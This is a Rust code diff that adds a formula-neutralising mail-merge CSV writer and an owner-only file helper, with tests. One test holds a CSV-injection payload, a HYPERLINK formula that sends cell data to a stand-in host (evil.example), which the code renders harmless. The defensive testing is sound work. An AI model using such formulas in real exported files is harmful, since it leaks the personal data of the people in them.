@@ -5,13 +5,46 @@
 use app::domain::Language;
 use app::dto::OverviewRow;
 
-/// A cell that a spreadsheet would run as a formula is written as text.
-fn cell(value: &str) -> String {
+/// A cell that a spreadsheet would run as a formula is written as text. Every CSV Rapport writes
+/// goes through here: debtors edit their own address, creditors hand over names and subjects.
+pub fn cell(value: &str) -> String {
     if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
         format!("'{value}")
     } else {
         value.to_string()
     }
+}
+
+/// A `;`-separated UTF-8 file with a byte order mark (German Excel opens it as it is), every cell
+/// neutralised by [`cell`]: the mail-merge files of letters and access data.
+pub fn mail_merge_csv<'a>(
+    header: &[&str],
+    rows: impl Iterator<Item = Vec<&'a str>>,
+) -> Result<Vec<u8>, csv::Error> {
+    let mut out = b"\xef\xbb\xbf".to_vec();
+    let mut writer = csv::WriterBuilder::new()
+        .delimiter(b';')
+        .from_writer(&mut out);
+    writer.write_record(header)?;
+    for row in rows {
+        writer.write_record(row.iter().map(|v| cell(v)))?;
+    }
+    writer.flush()?;
+    drop(writer);
+    Ok(out)
+}
+
+/// Creates `path` for a file full of secrets or personal data (access codes, letters, backups):
+/// readable and writable by its owner only, and never over an existing file.
+pub fn private_file(path: &std::path::Path) -> std::io::Result<std::fs::File> {
+    let mut options = std::fs::OpenOptions::new();
+    options.write(true).create_new(true);
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::OpenOptionsExt;
+        options.mode(0o600);
+    }
+    options.open(path)
 }
 
 /// The rows as CSV: codes for machines (state, class key) and the state in words for people.
@@ -140,6 +173,41 @@ pub fn remittance_csv(
 mod tests {
     use super::*;
     use app::domain::{Currency, Money};
+
+    #[test]
+    fn mail_merge_cells_that_a_spreadsheet_would_run_are_written_as_text() {
+        let street = r#"=HYPERLINK("https://evil.example/?"&A2,"Hauptstr. 1")"#;
+        let csv = mail_merge_csv(
+            &["name", "street", "city"],
+            [
+                vec!["Anna", street, "+49 Köln"],
+                vec!["@SUM(A1)", "-1", "\tx"],
+            ]
+            .into_iter(),
+        )
+        .expect("written");
+        let text = String::from_utf8(csv).expect("UTF-8");
+        assert!(text.starts_with('\u{feff}'), "a byte order mark for Excel");
+        let rows: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
+        assert_eq!(rows[0], "name;street;city");
+        assert!(rows[1].contains(r#"'=HYPERLINK("#), "{}", rows[1]);
+        assert!(rows[1].ends_with(";'+49 Köln"), "{}", rows[1]);
+        assert!(rows[2].starts_with("'@SUM(A1);'-1;"), "{}", rows[2]);
+    }
+
+    #[test]
+    fn private_files_are_for_their_owner_only_and_never_replace_one() {
+        let dir = tempfile::tempdir().expect("dir");
+        let path = dir.path().join("codes.csv");
+        private_file(&path).expect("created");
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            let mode = std::fs::metadata(&path).expect("meta").permissions().mode();
+            assert_eq!(mode & 0o777, 0o600);
+        }
+        assert!(private_file(&path).is_err(), "an existing file stays");
+    }
 
     #[test]
     fn rows_are_written_with_german_amounts_and_no_formulas() {
